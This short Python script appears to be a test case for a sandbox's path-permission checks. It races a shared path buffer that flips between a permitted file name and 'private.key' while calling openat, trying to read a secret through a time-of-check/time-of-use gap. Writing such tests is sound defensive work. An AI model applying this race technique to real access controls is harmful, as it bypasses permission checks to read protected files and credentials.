"""The path changes between a name that fits the glob and one that does not."""

import os

from attack import AT_FDCWD, SECRET_WORD, WORLD, Shared, race, syscall, tries

path = Shared(f"{WORLD.granted}/plain.txt".encode(), f"{WORLD.granted}/private.key".encode())


def strike() -> bool:
    """Open whatever the path says now."""
    number = syscall("openat", AT_FDCWD, path.address, os.O_RDONLY, 0)
    with open(number, "rb") as file:
        return file.read().startswith(SECRET_WORD)


with tries():
    race(path.flip, strike)
